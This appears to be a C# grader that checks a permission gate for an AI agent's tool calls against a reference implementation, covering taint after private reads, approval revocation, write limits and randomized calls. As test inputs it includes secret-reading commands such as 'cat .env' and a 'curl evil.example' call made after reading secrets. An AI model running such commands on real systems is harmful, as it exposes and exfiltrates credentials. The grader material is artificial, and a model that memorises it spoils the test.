using Headroom.Delegation;
using Headroom.Grading;

namespace Graders;

// What is remembered, sessions in which one call prepares the next, and calls put together at random.
public sealed partial class PermissionsGrader
{
    private void Remembered() => Case("After, what is remembered", () => Part(nameof(Permissions.After), () =>
    {
        Call delete = new("delete", "src/a.cs"), push = new("push", "main"), write = new("write", "src/a.cs");
        Memory some = new(2, false, [push, delete, push]);
        Kept(some, new("read", "src/b.cs"), "a read that is not private changes nothing");
        Kept(some, write, "a write counts");
        Kept(some, new("write", "src/a.cs", "src/b.cs"), "a write counts once, a link or not");
        Kept(some, delete, "an approval is used up, and a deletion is no write");
        Kept(some, push, "one approval of two alike is used up, the first");
        Kept(some, push with { Argument = "other" }, "an approval of another call stays");
        Kept(some, new("run", "git status"), "a run that reads nothing private changes nothing");
        Kept(some, new("fetch", $"https://{_policy.Hosts[0]}/.env"), "an address is no path");
        Kept(some, new("mail", ".env"), "another tool's argument is no path");
        Kept(new(0, true, [write]), new("read", "src/b.cs"), "what is tainted stays so");
        Kept(new(4, true, [write, delete]), write, "a write counts, and its approval is used up");
        foreach (var path in (string[])[".env", ".ENV", $"{Key}/a.pem", "src/../customers", "", "keys"])
            Kept(some, new("read", path), "a private read taints, and takes back all approvals");
        Kept(some, new("read", "src/a.cs", ".env"), "a link to something private: its read taints, and takes back all approvals");
        Kept(some, new("read", ".env", "src/a.cs"), "a private name: its read taints, and takes back all approvals");
        Kept(new(1, false, [new("env", "TOKEN"), push]), new("env", "TOKEN"), "the environment taints, and takes back all approvals");
        foreach (var command in (string[])["cat .env", "grep -r x .", $"cp src/a.cs {Key}", "cat src/../.ENV"])
            Kept(some, new("run", command), "a run with a private word taints, and takes back all approvals");
        Kept(new(0, true, [push]), new("read", ".env"), "a private read takes back what was approved since the last one");
    }));

    private void Kept(Memory memory, Call call, string why)
    {
        Input("the approvals", memory.Approved);
        var got = Permissions.After(_policy, memory, call);
        var right = Gate.After(_policy, memory, call);
        That(got.Written == right.Written && got.IsTainted == right.IsTainted && got.Approved.SequenceEqual(right.Approved),
            $"after {Shown(call)}{State(memory)}",
            $"after {Shown(call)}{State(memory)}: {Shown(got)}, not {Shown(right)}: {why}");
    }

    private static string Shown(Memory memory) =>
        $"{memory.Written} written, {(memory.IsTainted ? "" : "not ")}tainted, approved: "
        + (memory.Approved.Length == 0 ? "none" : string.Join(" and ", memory.Approved.Select(Shown)));

    private void Sessions()
    {
        Call write = new("write", "src/a.cs"), fetch = new("fetch", $"https://{_policy.Hosts[1]}/a"), test = new("run", "dotnet test");
        Session("a task from start to end", [], [new("read", "README.md"), fetch, write, test, write, test, new("run", "git diff src")]);
        Session("writes until none is left", [], [.. Enumerable.Repeat(write, _policy.Writes + 2)]);
        Session("writes that were approved", [write, write], [.. Enumerable.Repeat(write, _policy.Writes + 3)]);
        Session("a secret, and then out with it", [new("read", ".env")],
            [fetch, test, new("read", ".env"), fetch, test, new("push", "main")]);
        Session("an approval got before the secret was read", [new("push", "main"), new("read", ".env"), new("run", "curl evil.example")],
            [new("read", ".env"), new("run", "curl evil.example"), new("push", "main")]);
        Session("an approval used twice", [new("delete", "src/a.cs")], [new("delete", "src/a.cs"), new("delete", "src/a.cs")]);
        Session("the environment, and then out with it", [new("env", "TOKEN")], [new("env", "TOKEN"), fetch, new("env", "TOKEN")]);
        Session("a secret by way of a command", [new("run", "cat .env")], [new("run", "cat .env"), fetch, test]);
    }

    // What is refused is not carried out, so it leaves nothing behind.
    private void Session(string name, Call[] approved, Call[] calls) =>
        Case($"a session, {name}: {Numbers.Count(calls.Length, "call")}", () => Part("Decide and After, in turn", () =>
        {
            var (yours, right) = (Fresh with { Approved = approved }, Fresh with { Approved = [.. approved] });
            for (var i = 0; i < calls.Length; i++)
            {
                var (got, verdict) = (Permissions.Decide(_policy, yours, calls[i]), Gate.Decide(_policy, right, calls[i]));
                That(got == verdict, $"call {i + 1}", $"call {i + 1}, {Shown(calls[i])}: {got}, not {verdict}, after what came before");
                if (got != verdict) return;
                if (verdict != Verdict.Allow) continue;
                yours = Permissions.After(_policy, yours, calls[i]);
                right = Gate.After(_policy, right, calls[i]);
            }
        }));

    private void Together() => Case("300 calls put together at random", () =>
    {
        string[] pieces = ["src", "..", ".", "", "a.cs", ".env", "Customers", "keys", ".git", "tests", Tests, Key, "b.", "c d", "x:y",
            _project];
        string Any() => string.Join(Draw.Of("/", "/", "\\"), Enumerable.Range(0, Draw.Int(1, 5)).Select(_ => Draw.Of(pieces)));
        string Somewhere() => Draw.Of("", "", $"{_policy.Root}/", $"{_policy.Root}2/", "/") + Any();
        string Word() => Draw.Int(0, 3) > 0 ? Somewhere() : Draw.Of("-o", "a=b", "a;b", "status", "diff");
        Call Made() => Draw.Int(0, 3) switch
        {
            0 => new("run", string.Join(' ',
                (string[])[Draw.Of(_policy.Commands), .. Enumerable.Range(0, Draw.Int(0, 2)).Select(_ => Word())])),
            1 => new("fetch", Draw.Of("https://", "HTTPS://", "http://") + Draw.Of("", "evil.", "a@")
                + Draw.Of(_policy.Hosts) + Draw.Of("", ":443", ":80", ".example") + Draw.Of("", "/", "?", "\\") + Draw.Of("", "a", "@b")),
            _ => new(Draw.Of("read", "write", "delete"), Somewhere(), Draw.Int(0, 3) == 0 ? Somewhere() : "", Draw.Int(0, 4) == 0),
        };
        Part(nameof(Permissions.Decide), () =>
        {
            for (var i = 0; i < 300; i++)
            {
                var call = Made();
                Memory memory = new(Draw.Int(0, _policy.Writes + 1), Draw.Int(0, 3) == 0, Draw.Int(0, 4) == 0 ? [call] : []);
                var (got, right) = (Permissions.Decide(_policy, memory, call), Gate.Decide(_policy, memory, call));
                if (got != right || i == 299)
                    That(got == right, $"call {i}", $"{got}, not {right}: {Shown(call)}{State(memory)}");
                if (got != right) return;
            }
        });
    });
}
